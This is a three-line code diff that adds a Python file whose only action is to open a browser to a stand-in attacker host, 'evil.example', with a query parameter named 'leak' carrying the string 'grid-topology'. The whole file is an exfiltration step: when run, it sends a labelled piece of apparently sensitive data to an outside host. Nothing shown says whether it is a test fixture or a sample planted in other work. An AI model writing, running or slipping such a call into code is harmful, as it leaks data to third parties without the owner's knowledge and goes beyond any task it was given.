@@ -1,0 +1,3 @@
+import webbrowser
+
+webbrowser.open("http://evil.example/?leak=" + "grid-topology")
